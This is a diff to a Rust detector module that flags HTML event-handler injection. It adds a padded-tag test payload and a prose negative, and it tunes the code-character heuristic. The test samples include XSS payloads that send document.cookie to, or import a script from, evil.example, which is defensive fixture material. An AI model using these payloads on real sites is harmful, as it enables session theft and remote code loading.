@@ -176,12 +176,14 @@ pub static DETECTORS: &[Detector] = &[
             "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
             "<svg/onload=alert(1)>",
             "<div ONMOUSEOVER='steal()'>hover</div>",
+            "<img alt=\"a long alt text that pads the tag so that its opening bracket is far behind the handler attribute\" onerror=import('//evil.example/x.js')>",
         ],
         &[
             "```html\n<button onclick=\"go()\">Go</button>\n```",
             "Set the `onclick=` attribute in your template.",
             "The option=3 and done=true flags.",
             "We met online = no travel.",
+            "Turn it on with onboarding=true.",
         ],
     ),
     Detector::base(
@@ -276,8 +278,8 @@ fn active_tag_start(m: &[u8]) -> bool {
 
 /// An event handler starts after white space, a quote or `/`, inside a tag: a `<` is nearer
 /// before it than a `>`. When neither is within reach (a tag padded with long attributes), the
-/// value must read as code (a call, an assignment, a statement), so prose such as
-/// "online = no" stays.
+/// value must read as code (a call, an assignment, a statement, a template), so prose such as
+/// "online = no" or "onboarding=true." stays.
 fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
     if !before
         .last()
@@ -296,7 +298,7 @@ fn after_tag_space(before: &[u8], value: &[u8], _after: &[u8]) -> bool {
                 .iter()
                 .position(|c| *c == b'=')
                 .map_or(&[][..], |eq| &value[eq + 1..]);
-            code.iter().any(|c| b"(`=;.".contains(c))
+            code.iter().any(|c| b"(`=;".contains(c))
         }
     }
 }
